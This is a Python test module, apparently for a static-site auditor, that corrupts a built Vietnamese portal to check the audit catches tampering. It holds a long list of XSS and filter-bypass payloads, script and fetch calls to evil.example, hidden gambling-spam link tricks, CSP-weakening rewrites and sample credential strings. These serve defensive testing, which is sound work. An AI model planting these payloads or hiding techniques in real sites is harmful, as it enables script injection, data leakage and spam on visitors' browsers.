"""Ways of spoiling a built site, by chance and combination, and changes beside them that are right.

An intruder on the web server, a broken build and a copy cut short all leave a tree that `portal audit` must refuse,
naming the file; a change that harms nobody must pass.
"""

import gzip
import json
import os
import re
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from random import Random
from typing import NamedTuple

Tree = Mapping[str, bytes]  # path → content of each file of a built site
Act = Callable[[Path], None]


class Spoil(NamedTuple):
    """One change: its family, what it is, files to write (None takes one away), what else is done, and who is named.

    `named` is a part of the path or the message of a finding; "" where the tree must pass.
    """

    family: str
    label: str
    writes: Mapping[str, bytes | None]
    named: str
    act: Act | None = None


TEXTS = ("html", "xml", "json", "css", "js", "ics", "svg", "xsl", "webmanifest", "txt")

# ---------------------------------------------------------------------------------- what is put into a page

SCRIPTS = (
    "alert(1)", "fetch('//evil.example')", "location='https://evil.example/'", "eval(atob('YQ=='))",
    "navigator.serviceWorker.register('/sw.js')", "document.write('<a href=//evil.example>x</a>')",
)  # fmt: skip
RUNNING = (
    "<script>{js}</script>", "<SCRIPT type='text/javascript'>{js}</SCRIPT>", "<script type=module>{js}</script>",
    "<script src='//evil.example/a.js'></script>", "<script src=/theme/khong-co.js></script>", "<svg><script>{js}</script></svg>",
    "<script src='https://evil.example/a.js' integrity='sha384-x'></script>", "<svg><script href='//evil.example/a.js'/></svg>",
    "<script type='importmap'>{{}}</script>", "<script type='speculationrules'>{{}}</script>", "<script type='text/babel' src='//evil.example/x.jsx'></script>",
    "<img src='/favicon.svg' alt='' onerror=\"{js}\">", "<p onclick='x()'>a</p>", "<details open ontoggle=x()>", "<svg onload=x()>", "<input autofocus onfocus=x()>",
    "<div popover id=pp1 onbeforetoggle=x()>", "<a href='/' ondragstart=x()>a</a>", "<video onloadstart=x()></video>", "<marquee onstart=x()>",
    "<a href='javascript:x()'>a</a>", "<a href='&#106;avascript:x()'>a</a>", "<a href='JaVa\tScript:x()'>a</a>", "<a href=\"java&NewLine;script&colon;x()\">a</a>",
    "<a href=' \x0bjavascript:x()'>a</a>", "<a href='vbscript:x'>a</a>", "<a href='data:text/html;base64,PHNj'>a</a>", "<a href='livescript:x'>a</a>", "<a href='view-source:javascript:x'>a</a>",
    "<form action='javascript:x()'><button>a</button></form>", "<button formaction='javascript:x()'>a</button>", "<svg><a xlink:href='javascript:x()'>a</a></svg>",
    "<svg><animate attributeName=href values='javascript:x()'/></svg>", "<svg><set attributeName=href to='javascript:x()'/></svg>", "<math href='javascript:x()'>a</math>",
    "<math><mtext xlink:href='javascript:x()'>a</mtext></math>", "<img src='javascript:x()' alt=''>", "<iframe src='javascript:x()'></iframe>", "<iframe src='data:text/html,x'></iframe>", "<table background='javascript:x()'></table>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"5\">", "<base href='https://evil.example/'>", "<base target=_blank>",
    "<object data='/favicon.svg'></object>", "<embed src='/favicon.svg'>", "<applet code=x></applet>", "<frameset><frame src=/></frameset>", "<iframe srcdoc='<b>x</b>'></iframe>",
    "<iframe src='https://evil.example/'></iframe>", "<iframe src='//evil.example'></iframe>", "<iframe src='http://www.youtube.com.evil.example/embed/a'></iframe>", "<fencedframe></fencedframe>", "<portal src=/></portal>",
    "<form action='https://evil.example/'><input name=q></form>", "<form action='//evil.example' method=post></form>", "<input type=image src='https://evil.example/a.png' alt=a>",
    "<button formaction='https://evil.example/'>a</button>", "<isindex action='https://evil.example/'>", "<form action='mailto:a@evil.example'></form>",
    "<style>a{{}}</style>", "<p style='color:red'>a</p>", "<p style='background:url(//evil.example/x)'>a</p>", "<link rel=stylesheet href='//evil.example/a.css'>", "<style>@import '//evil.example'</style>",
    "<img src='https://evil.example/a.png' alt=''>", "<img src='//evil.example/a.png' alt=''>", "<img srcset='https://evil.example/a.png 2x' src='/favicon.svg' alt=''>", "<picture><source srcset='//evil.example/a.webp 480w'><img src='/favicon.svg' alt=''></picture>",
    "<img src='\\\\evil.example\\a.png' alt=''>", "<img src='https:evil.example/a.png' alt=''>", "<img src='http:\\\\evil.example/a.png' alt=''>", "<video src='https://evil.example/a.mp4'></video>", "<video poster='https://evil.example/a.png'></video>", "<audio src='//evil.example/a.mp3'></audio>",
    "<video><track src='https://evil.example/a.vtt'></video>", "<video><source src='https://evil.example/a.mp4'></video>", "<svg><image href='https://evil.example/a.png'/></svg>", "<svg><use href='https://evil.example/a.svg#a'/></svg>", "<svg><feImage href='https://evil.example/a'/></svg>",
    "<link rel=preload as=script href='https://evil.example/a.js'>", "<link rel='dns-prefetch' href='//evil.example'>", "<link rel=preconnect href='https://evil.example'>", "<link rel=prefetch href='https://evil.example/'>", "<link rel=modulepreload href='//evil.example/a.js'>",
    "<link rel=icon href='https://evil.example/a.ico'>", "<link rel='shortcut icon' href='https://evil.example/a.ico'>", "<link rel=manifest href='https://evil.example/m'>", "<link rel='apple-touch-icon' href='//evil.example/a.png'>", "<link rel=preload as=image imagesrcset='https://evil.example/a.png 1x'>",
    "<link rel=pingback href='https://evil.example/x'>", "<a href=/ ping='https://evil.example/p'>a</a>", "<body background='https://evil.example/a.png'>", "<td background='//evil.example/a.png'>a</td>",
    "<blockquote cite='javascript:x()'>a</blockquote>", "<noscript><img src='https://evil.example/a.png' alt=''></noscript>", "<template><script>x()</script></template>", "<template shadowrootmode=open><script>x()</script></template>", "<math><annotation-xml encoding='text/html'><script>x()</script></annotation-xml></math>",
    "<noscript><meta http-equiv=refresh content='0;url=//evil.example'></noscript>", "<!--><script>x()</script>-->", "<xmp></xmp><script>x()</script>", "<svg><style>@import url(//evil.example/a)</style></svg>", "<svg><foreignObject><iframe src='//evil.example'></iframe></foreignObject></svg>",
    "<link rel=canonical href='https://evil.example/'>", "<meta property='og:url' content='https://evil.example/'>", "<meta property='og:image' content='https://evil.example/a.png'>", "<meta name='twitter:image' content='https://evil.example/a.png'>",
    "<link rel=alternate hreflang=vi href='https://evil.example/'>", "<link rel=alternate type='application/rss+xml' href='https://evil.example/rss.xml'>", "<link rel=amphtml href='https://evil.example/'>", "<meta http-equiv='set-cookie' content='a=b'>", "<meta charset=utf-7>",
    "<link rel=search type='application/opensearchdescription+xml' href='https://evil.example/o.xml'>", "<script type='application/ld+json'>{{\"url\": \"https://evil.example/\",</script>",
)  # fmt: skip
PLACES = ("</main>", "</body>", "<body>", "</head>", "</footer>")
HEAD_ONLY = ("canonical", "og:", "twitter:", "<base", "alternate", "amphtml")

HIDING = (
    "<div hidden>{}</div>", "<div style='display:none'>{}</div>", "<div style='position:absolute;left:-9999px'>{}</div>", "<p style='font-size:0'>{}</p>", "<noscript>{}</noscript>",
    "<div style='height:1px;overflow:hidden'>{}</div>", "<span style='opacity:0'>{}</span>", "<div hidden='until-found'>{}</div>", "<template>{}</template>", "<div style='text-indent:-9999em'>{}</div>",
    "<div style='color:#fff;font-size:1px'>{}</div>", "<details><summary></summary>{}</details>", "<div aria-hidden=true>{}</div>", "<div inert>{}</div>", "<marquee height=1 width=1 scrollamount=9999>{}</marquee>", "<dialog>{}</dialog>", "<!-- {} -->", "<font size=1 color=white>{}</font>",
)  # fmt: skip
BETTING = (
    ("https://w88-vn.example/", "Trang chủ"), ("https://xyz.example/", "Nhà cái uy tín"), ("https://xyz.example/", "nha cai uy tin so 1"), ("https://xyz.example/", "Cá độ bóng đá"),
    ("https://kubet77.example/", "KUBET"), ("https://xyz.example/", "Tài xỉu online"), ("https://xyz.example/", "game bài đổi thưởng"), ("https://xyz.example/", "N h à  c á i"), ("https://xyz.example/", "nhà-cái uy tín"),
    ("https://xyz.example/", "cá&#8203; cược"), ("https://xyz.example/", "nhà c&aacute;i"), ("https://xyz.example/", "NHÀ CÁI"), ("https://xyz.example/", "link vào 8xbet"), ("https://xyz.example/", "slot gacor hari ini"),
    ("https://xyz.example/nha-cai-uy-tin", "Xem thêm"), ("https://xyz.example/", "xoso88 soi cầu"), ("http://789bet.example", "789BET"), ("https://jun88.example", "a"), ("https://xyz.example/?utm=casino-online", "Xem"), ("https://xyz.example/", "đánh đề online"),
    ("https://xyz.example/", "lô đề 3 miền"), ("https://xyz.example/", "Đá gà trực tiếp Thomo"), ("https://xyz.example/", "vay tiền nhanh 247"), ("https://xyz.example/", "phim sex hay"), ("https://xn--nhci-0na.example/", "nhà cái"),
)  # fmt: skip
BETTING_HOLDERS = (
    "<a href='{0}'>{1}</a>", "<a href=\"{0}\" rel=nofollow><b>{1}</b></a>", "<p><a title='{1}' href='{0}'>x</a></p>", "<a href='{0}'><img src='/favicon.svg' alt='{1}'></a>", "<area href='{0}' alt='{1}'>",
    "<a href='{0}' aria-label='{1}'>x</a>", "<svg><a href='{0}'><text>{1}</text></a></svg>",
)  # fmt: skip
BROKEN = (
    "/khong-co/", "/Bai-Viet/", "khong-co.html", "../../../../khong-co", "/bai-viet/khong-co/", "/#khong-co", "#khong-co", "/images/khong-co.png", "//{host}/khong-co", "https://{host}/khong-co/", "?a=1#khong-co", "/b%C3%A0i/",
    "/index.html/x", "/favicon.ico/", "/theme/", "/images", "/FAVICON.ICO", "#N%E1%BB%99i", "/%2e%2e/khong-co", "/bai-viet/..%2fkhong-co", "./khong-co", "/atom.xml/", "https:/khong-co", "/rss.XML",
)  # fmt: skip
WHOLE_LINKS = (
    "/", "/index.html", "#", "", "#top", "#Top", "?", "/?a=b", "https://{host}/", "HTTPS://{host}/", "//{host}/", "https://{host}:443/", "https://vnexpress.example/bai", "http://la.example/", "mailto:a@so.example", "tel:19001234", "/favicon.ico", "./", "https://{host}", "/theme/feed.css",
    "https://{host}/#:~:text=a", "/./index.html", "//la.example/x", "https://vi.wikipedia.org/wiki/Cờ_bạc", "https://bocongan.gov.vn/phong-chong-co-bac", "sms:+84123", "https://la.example/a?b=c&amp;d=e", "https://[2001:db8::1]/",
)  # fmt: skip
HARMLESS = (
    "<p>Phòng, chống cờ bạc, cá độ bóng đá trên mạng</p>", "<p>Viết <code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>", "<p>onclick=x javascript:alert(1)</p>", "<p title='onload=x()'>a</p>", "<!-- ghi chú: <script> -->", "<p>Mật khẩu phải dài hơn 12 ký tự</p>",
    "<p lang=en>a &lt; b &amp;&amp; c > d</p>", "<img src='/favicon.svg' alt='a > b'>", "<script type='application/ld+json'>{{\"a\": 1}}</script>", "<details><summary>Xem</summary><p>a</p></details>", "<p hidden>a</p>", "<svg viewBox='0 0 9 9'><path d='M1 1'/></svg>", "<p>Điện thoại: 1900 1234, đường dây nóng 1900 4321</p>",
    "<p>Số 123/QĐ-UBND ngày 01/02/2023, 1.234.567.890 đồng</p>", "<p>data:text/html</p>", "<a id=x1 href='/'>a</a>", "<p>\u1ea0\u0323\u2060 à</p>", "<p>Xổ số kiến thiết Hà Nam nộp ngân sách 12 tỷ đồng</p>", "<div aria-hidden=true>★</div>", "<math><mi>x</mi></math>", "<p>C:\\ là ổ đĩa; /etc/passwd là tệp</p>",
    "<ruby>a<rt>b</rt></ruby>", "<video controls src='/favicon.svg'></video>", "<p data-x='javascript:'>a</p>", "<a href='/' class='hidden-print'>a</a>", "<input type=hidden name=a value=b>", "<form action='/tim-kiem/'><input name=q aria-label=q></form>", "<p>eyJ là ba chữ đầu của JWT; AKIA của AWS</p>",
    "<a href='https://play.example/'>slot</a>" * 0 + "<p>Nhà tài trợ</p>", "<a href='https://baochinhphu.vn/x'>Xử phạt quảng cáo cờ bạc</a>", "<a href='https://la.example/'>Tuyên truyền phòng, chống cá độ bóng đá</a>", "<a href='https://la.example/'>Học sinh với sòng phẳng, cái nhà</a>",
)  # fmt: skip
POLICY = re.compile(rb'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
WEAKER = (
    lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src &#39;self&#39; &#39;unsafe-inline&#39;"), lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src *"),
    lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src https:"), lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src &#39;self&#39; https://evil.example"),
    lambda p: p.replace(b"default-src &#39;none&#39;", b"default-src *"), lambda p: p.replace(b"style-src &#39;self&#39;", b"style-src &#39;unsafe-inline&#39;"), lambda p: p.replace(b"default-src", b"img-src"), lambda p: p.replace(b"form-action &#39;self&#39;", b"form-action *"),
    lambda p: p.replace(b"base-uri &#39;none&#39;", b"base-uri *"), lambda p: p.replace(b"content=\"", b"content=\"; script-src &#39;unsafe-eval&#39;; ", 1), lambda p: p.replace(b"Content-Security-Policy", b"Content-Security-Policy-Report-Only"), lambda p: b"", lambda p: b"<!-- " + p + b" -->",
    lambda p: p.replace(b"http-equiv", b"name"), lambda p: p.replace(b"connect-src &#39;self&#39;", b"connect-src https://evil.example"), lambda p: p.replace(b"; form-action &#39;self&#39;", b""), lambda p: p.replace(b"; base-uri &#39;none&#39;", b""), lambda p: p.replace(b"img-src &#39;self&#39;", b"img-src data:"), lambda p: p.replace(b"img-src &#39;self&#39;", b"img-src http:"),
    lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src &#39;nonce-abc&#39;"), lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src &#39;self&#39; &#39;unsafe-hashes&#39;"), lambda p: b"<script src='/theme/x.js'></script>" + p, lambda p: b"<noscript>" + p + b"</noscript>", lambda p: b"<template>" + p + b"</template>",
    lambda p: p.replace(b"; script-src &#39;self&#39;", b"; script-src &#39;strict-dynamic&#39; &#39;self&#39;"), lambda p: p.replace(b"media-src &#39;self&#39;", b"frame-src https://evil.example"), lambda p: p.replace(b"media-src &#39;self&#39;", b"frame-src *"),
)  # fmt: skip
STRONGER = (
    lambda p: p.replace(b"&#39;", b"'"), lambda p: p + p, lambda p: p.replace(b"media-src &#39;self&#39;", b"media-src &#39;none&#39;"), lambda p: p.replace(b"; media-src &#39;self&#39;", b""), lambda p: p.replace(b"http-equiv", b"HTTP-EQUIV"), lambda p: p.replace(b"script-src &#39;self&#39;", b"script-src &#39;sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=&#39;"),
    lambda p: p.replace(b"default-src &#39;none&#39;", b"upgrade-insecure-requests; default-src &#39;none&#39;"), lambda p: p.replace(b"default-src &#39;none&#39;", b"default-src &#39;self&#39;"),
)  # fmt: skip

SECRETS = (
    "-----BEGIN RSA PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----", "-----BEGIN OPENSSH PRIVATE KEY-----", "-----BEGIN PGP PRIVATE KEY BLOCK-----", "AKIA2E0A8F3B244C9986".replace("0", "Q").replace("8", "P").replace("9", "R"), "aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzKEYaab", "ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    "github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz0123456789ABCDEFGHIJ", "glpat-x1y2z3a4b5c6d7e8f9g0", "xoxb-123456789012-abcdefGHIJKL", "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX", "AIzaSyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q", "ya29.a0AfH6SMBxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq==", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV", "postgres://app:Matkhau1@10.0.0.5/db", "mysql://root:Qwe123!@localhost/x", "mongodb+srv://u:P4ssw0rd@c.mongodb.net", "https://user:Pa55word@git.so.example/x.git",
    "DB_PASSWORD=Thang10-2024", "password = 'S0nLa@2024'", '"password": "S0nLa@2024"', "$cfg['password'] = 'abc@12345';", "sk_live_4eC39HqLyjWDarjtT1zdp7dc", "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", "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0", "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD",
    "npm_abcdefghijklmnopqrstuvwxyz0123456789", "Server=db;Database=x;User Id=sa;Password=Qwe!2345;", "Authorization: Basic YWRtaW46TWF0a2hhdTEyMw==", "Authorization: Bearer abcdef0123456789abcdef0123456789", "mật khẩu: Quantri@123", "EAACEdEose0cBA" + "1a" * 40, "AGE-SECRET-KEY-1QQPQZ7RVGA8QYXYMYWRRMKGPRYFMQ7ZKRXPGQYKCRHDLKJZQ2V9S3XYZAA",
    "sha512:$6$rounds=5000$abcdefgh$" + "a1B2" * 21 + "ab", "admin:$apr1$x7Yz1234$abcdefghijklmnopqrstu.", "root:$2y$10$abcdefghijklmnopqrstuvABCDEFGHIJKLMNOPQRSTUV0123456789ab", "shpat_0123456789abcdef0123456789abcdef", "dckr_pat_abcdefghijklmnopqrstuvwxyz0", "https://outlook.webhook.office.com/webhookb2/0a1b2c3d-1111-2222-3333-444455556666@0a1b2c3d-1111-2222-3333-444455556666/IncomingWebhook/abcdef0123456789abcdef0123456789/0a1b2c3d",
    "SharedAccessSignature=sv=2020&sig=abcdefghijklmnopqrstuvwxyz0123456789ABCD%3D", "?sv=2022-11-02&ss=b&srt=o&sp=r&sig=abcdefghijklmnopqrstuvwxyz0123456789ABCD%3D",
)  # fmt: skip
NOT_SECRETS = (
    "Đổi mật khẩu định kỳ", "password: ********", "mật khẩu: ít nhất 8 ký tự", "-----BEGIN CERTIFICATE-----", "ssh-rsa AAAAB3NzaC1yc2E=", "https://github.com/user/repo@v1", "api_key: YOUR_API_KEY", "token: <token>", "sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=", "550e8400-e29b-41d4-a716-446655440000", "da39a3ee5e6b4b0d3255bfef95601890afd80709", "mailto:a@b.example", "Mật khẩu mặc định phải đổi ngay",
    "https://la.example/@nguoi:abc", "key: value", "secretariat: Ban Bí thư", "http://a.example:8080/x@y", "Compass: 123abc!", "aws là gì",
)  # fmt: skip
PERSONAL = (
    "Số căn cước: 001085012345", "CCCD 035185001234", "CMND số 168123456", "Điện thoại di động: 0912 345 678", "SĐT 0987.654.321", "Số tài khoản 1903 4567 8910 12 tại Techcombank", "Ông Nguyễn Văn An, sinh ngày 12/03/1985", "Nhà riêng: số 12, ngõ 34, đường Lê Lợi, phường Minh Khai, thành phố Phủ Lý", "+84 912 345 678",
)  # fmt: skip
MACHINE = (
    "/home/deploy/portal/content/x.md",
    "C:\\Users\\nguyenvana\\Desktop\\x.docx",
    "/root/portal/x",
    "file:///home/a/x",
    "/Users/an/portal/x.md",
)

PRIVATE = (
    ".env", ".git/config", ".git/HEAD", ".htpasswd", ".htaccess", ".DS_Store", "Thumbs.db", "desktop.ini", "index.html~", "index.html.bak", "index.html.orig", ".index.html.swp", "index.html.old", "index.html.save", "index (copy).html", "index - Copy.html", "Copy of index.html", "theme/portal.js.map", "theme/a.css.map", "site.toml", "content.tar.gz", "backup.zip", "sao-luu.zip", "www.rar", "db.sql", "db.sql.gz",
    "data.sqlite", "data.db", "error.log", "access.log", "debug.log", "nohup.out", ".idea/workspace.xml", ".vscode/settings.json", "__pycache__/a.cpython-311.pyc", "pelicanconf.py", "Makefile", "Dockerfile", "docker-compose.yml", "package.json", "package-lock.json", "node_modules/a/index.js", "composer.json", "requirements.txt", "id_rsa", "id_ed25519.pub", "server.pem", "server.key", "cert.pfx", "wp-config.php",
    "config.php", "x.php", "images/x.php", "images/x.php.jpg", "images/x.pHp", "images/x.phtml", "x.asp", "x.jsp", "x.cgi", "x.sh", "x.exe", "x.py", "files/x.docm", "files/x.xlsm", "x.shtml", ".user.ini", "php.ini", "phpinfo.php", "web.config", ".cache/manifest.json", ".portal-lock", "manifest.json.tmp", ".svn/entries", ".hg/store", ".ssh/id_rsa", ".bash_history", ".npmrc", ".netrc", "bai-viet/bai.md", "articles/bai.md", "core.1234", "x.swp", "x.tmp", "x.part", "#index.html#", "x.lock",
    "x.ps1", "x.bat", "x.jar", "x.war", "x.svgz.exe", "x.html.php", "x.inc", "x.tpl", "x.j2", "credentials.json", "secrets.json", "service-account.json", "terraform.tfstate", "kubeconfig", "x.kdbx", "sw.js", "service-worker.js", "x.7z", "dump.rdb", "database.mdb", "x.pst", "mail.eml", "nul", "x.lnk", "x.scr", "x.hta", "x.vbs", "x.url", "x.dll", "x.apk", "x.iso", "x.dmg", "x.deb",
)  # fmt: skip
PUBLIC = (
    ".well-known/security.txt", ".nojekyll", "humans.txt", "ads.txt", "llms.txt", "files/bao-cao-2023.pdf", "files/sao-luu.txt", "files/key.txt", "BingSiteAuth.xml",
)  # fmt: skip


# ------------------------------------------------------------------------------------------------ the families


def _ending(path: str) -> str:
    return path.rpartition("/")[2].rpartition(".")[2].lower()


def _pick(random: Random, tree: Tree, *endings: str) -> str:
    return random.choice(
        sorted(path for path in tree if _ending(path) in endings and b"refresh" not in tree[path][:3000])
    )


def _into(page: bytes, piece: str, random: Random, places: tuple[str, ...] = PLACES) -> bytes:
    mark = random.choice([one for one in places if one.encode() in page] or ["</body>"]).encode()
    put = piece.encode("utf-8", "surrogatepass")
    before, found, after = page.rpartition(mark)
    return before + (found + put if not mark.startswith(b"</") else put + found) + after


def _with(
    tree: Tree, path: str, piece: str, random: Random, places: tuple[str, ...] = PLACES
) -> dict[str, bytes | None]:
    return {path: _into(tree[path], piece, random, places)}


def running(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html")
    piece = random.choice(RUNNING).format(js=random.choice(SCRIPTS).replace("{", "").replace("}", ""))
    places = ("</head>",) if any(mark in piece for mark in HEAD_ONLY) else PLACES[:3] + PLACES[4:]
    return Spoil("running", f"{path}: {piece}", _with(tree, path, piece, random, places), path)


def betting(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html")
    host, words = random.choice(BETTING)
    piece = random.choice(BETTING_HOLDERS).format(host, words)
    if random.random() < 0.5:
        piece = random.choice(HIDING).format(piece)
    return Spoil("betting", f"{path}: {piece}", _with(tree, path, piece, random, PLACES[:3] + PLACES[4:]), path)


def betting_elsewhere(random: Random, tree: Tree) -> Spoil:
    """Links of betting houses in feeds, data, maps, calendars and files for servers."""
    address, words = random.choice(BETTING)
    way = random.randrange(8)
    if way == 0:
        path = _pick(random, tree, "json")
        text = tree[path].decode()
        changed = re.sub(
            r'("(?:title|name|summary|label|content_text|description)":\s*")', rf"\1{words} {address} ", text, count=1
        )
        if changed == text:
            changed = re.sub(r"\{", '{"x": "' + address + '",', text, count=1)
    elif way == 1:
        path = random.choice(
            sorted(
                p
                for p in tree
                if p.endswith(("rss.xml", "atom.xml")) and (b"<item>" in tree[p] or b"<entry>" in tree[p])
            )
        )
        changed = tree[path].decode().replace("</title>", f" {words} {address}</title>")
    elif way == 2:
        path = "sitemap.xml"
        changed = tree[path].decode().replace("</urlset>", f"<url><loc>{address}</loc></url></urlset>")
    elif way == 3:
        path = _pick(random, tree, "ics")
        changed = tree[path].decode().replace("END:VEVENT", f"DESCRIPTION:{words} {address}\r\nEND:VEVENT", 1)
        if changed == tree[path].decode():
            changed = (
                tree[path].decode().replace("END:VCALENDAR", f"X-WR-CALDESC:{words} {address}\r\nEND:VCALENDAR", 1)
            )
    elif way == 4:
        path, changed = random.choice(
            (
                ("_redirects", f"/a {address} 301\n"),
                (".htaccess", f"Redirect 301 / {address}\n"),
                ("robots.txt", f"User-agent: *\nAllow: /\nSitemap: {address}map.xml\n"),
                ("vercel.json", f'{{"redirects": [{{"source": "/a", "destination": "{address}"}}]}}\n'),
            )
        )
    elif way == 5:
        path = _pick(random, tree, "js")
        changed = tree[path].decode() + f"\nlocation.href = '{address}';\n"
    elif way == 6:
        path = "site.webmanifest"
        changed = tree[path].decode().replace('"name"', f'"description": "{words} {address}", "name"', 1)
    else:
        path = "opensearch.xml"
        changed = re.sub(r'template="[^"]*"', f'template="{address}?q={{searchTerms}}"', tree[path].decode(), count=1)
    return Spoil("betting elsewhere", f"{path}: {words} {address}", {path: changed.encode()}, path)


def hidden_links(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html")
    piece = random.choice(HIDING[:10]).format("<a href='https://la.example/'>Báo</a>")
    return Spoil("hidden links", f"{path}: {piece}", _with(tree, path, piece, random, PLACES[:3]), path)


def broken(random: Random, tree: Tree) -> Spoil:
    path, host = _pick(random, tree, "html"), host_of(tree)
    piece = f'<a href="{random.choice(BROKEN).format(host=host)}">a</a>'
    return Spoil("broken links", f"{path}: {piece}", _with(tree, path, piece, random, PLACES[:3]), path)


def whole_links(random: Random, tree: Tree) -> Spoil:
    path, host = _pick(random, tree, "html"), host_of(tree)
    address = random.choice(WHOLE_LINKS).format(host=host)
    if path == "404.html" and address.startswith("."):
        address = "/"
    if address.startswith("./") and not path.endswith("/index.html") and path != "index.html":
        address = "/"
    if address == "/./index.html":
        address = "/index.html"
    piece = f'<a href="{address}">a</a>'
    return Spoil("whole links", f"{path}: {piece}", _with(tree, path, piece, random, PLACES[:3]), "")


def harmless(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html")
    piece = random.choice(HARMLESS).format()
    return Spoil("harmless", f"{path}: {piece}", _with(tree, path, piece, random, PLACES[:2]), "")


def weaker(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html")
    change = random.choice(WEAKER)
    made = POLICY.sub(lambda match: change(match[0]), tree[path], count=1)
    if made == tree[path]:
        made = POLICY.sub(b"", tree[path], count=1)
    return Spoil(
        "policy", f"{path}: {POLICY.search(made)[0][-300:] if POLICY.search(made) else 'none'}", {path: made}, path
    )  # type: ignore[index]


def stronger(random: Random, tree: Tree) -> Spoil:
    path = _pick(random, tree, "html")
    change = random.choice(STRONGER)
    made = POLICY.sub(lambda match: change(match[0]), tree[path], count=1)
    return Spoil("policy as strong", f"{path}: {made[200:600]!r}", {path: made}, "")


def removed(random: Random, tree: Tree) -> Spoil:
    kinds: dict[str, list[str]] = {}
    for path in tree:
        if path not in (".portal-output", "gone.txt", "robots.txt") and not path.endswith((".gz", ".br")):
            kinds.setdefault(_ending(path), []).append(path)
    path = random.choice(sorted(kinds[random.choice(sorted(kinds))]))
    named = path.removesuffix("index.html").rstrip("/") or path
    return Spoil("removed", path, {path: None}, named)


def _kinds(tree: Tree, random: Random, leave: tuple[str, ...] = ()) -> str:
    kinds: dict[str, list[str]] = {}
    for path in tree:
        if not path.startswith(".") and _ending(path) not in leave and len(tree[path]) > 40:
            kinds.setdefault(_ending(path), []).append(path)
    return random.choice(sorted(kinds[random.choice(sorted(kinds))]))


def cut(random: Random, tree: Tree) -> Spoil:
    path = _kinds(tree, random, ("txt", "csv"))
    content = tree[path]
    whole = len(content.rstrip())
    at = random.choice(
        (0, 1, whole // 3, whole // 2, whole - 1, whole - random.randrange(1, min(30, whole)), random.randrange(whole))
    )
    if path == "theme/feed.css" and content[:at].count(b"{") == content[:at].count(b"}"):
        at = content.find(b"{") + 1
    how = random.choice(("cut", "cut", "zeros", "empty"))
    made = {"cut": content[:at], "zeros": content[:at] + b"\0" * (len(content) - at), "empty": b""}[how]
    if made.rstrip() == content.rstrip():
        made, how = b"", "empty"
    return Spoil("cut", f"{path} {how} at {at} of {len(content)}", {path: made}, path)


def flipped(random: Random, tree: Tree) -> Spoil:
    """A byte of a file that is no text, or whose name holds its digest, is another."""
    paths = [
        path
        for path in tree
        if (
            _ending(path) not in (*TEXTS, "csv", "bin", "ico", "pdf", "portal-output")
            or path.startswith(("theme/portal", "theme/boot", "theme/search", "images/"))
        )
    ]
    path = random.choice(sorted(paths))
    content = bytearray(tree[path])
    at = random.randrange(len(content) // 3, len(content) * 2 // 3)
    content[at] ^= 1 << random.randrange(8)
    return Spoil("flipped", f"{path} at {at}", {path: bytes(content)}, path)


def put_text(text: str, path: str, content: bytes, random: Random) -> bytes:
    """Return a text file with a line of text in it, as its kind says text."""
    ending, old = _ending(path), content.decode()
    safe = text.replace("&", "&amp;").replace("<", "&lt;")
    if ending == "html":
        way = random.randrange(4)
        if way == 0:
            return _into(content, f"<!-- {text} -->", random, PLACES[:2])
        if way == 1:
            return _into(
                content, f'<img src="/favicon.svg" alt="{safe.replace(chr(34), "&quot;")}">', random, PLACES[:1]
            )
        if way == 2:
            return _into(
                content, f'<meta name="description" content="{safe.replace(chr(34), "&quot;")}">', random, ("</head>",)
            )
        return _into(content, f"<p>{safe}</p>", random, PLACES[:2])
    if ending in ("xml", "svg", "xsl"):
        at = old.rfind("</")
        return (
            f"{old[:at]}<!-- {text.replace('--', '- -') if '-----' not in text else ''} -->{old[at:]}".encode()
            if random.random() < 0.3 and "--" not in text
            else f"{old[:at]}<title>{safe}</title>{old[at:]}".encode()
        )
    if ending in ("json", "webmanifest"):
        if old.startswith("["):
            return json.dumps([text], ensure_ascii=False).encode()
        at = old.find("{") + 1
        comma = "" if old[at:].lstrip().startswith("}") else ","
        return f'{old[:at]}"zz": {json.dumps(text, ensure_ascii=random.random() < 0.5)}{comma}{old[at:]}'.encode()
    if ending in ("css", "js"):
        return f"{old}\n/* {text} */\n".encode()
    if ending == "ics":
        return (
            old.replace("BEGIN:VEVENT", f"X-A:{text}\r\nBEGIN:VEVENT", 1)
            .replace("END:VCALENDAR", f"X-B:{text}\r\nEND:VCALENDAR")
            .encode()
        )
    return f"{old}\n{text}\n".encode()


_HOLDS_TEXT = ("html", "xml", "json", "ics", "txt", "csv", "webmanifest", "svg")


def secret(random: Random, tree: Tree) -> Spoil:
    path = _kinds(tree, random, tuple({_ending(one) for one in tree} - {*_HOLDS_TEXT, "css", "js", "xsl"}))
    text = random.choice(SECRETS)
    return Spoil("secrets", f"{path}: {text}", {path: put_text(text, path, tree[path], random)}, path)


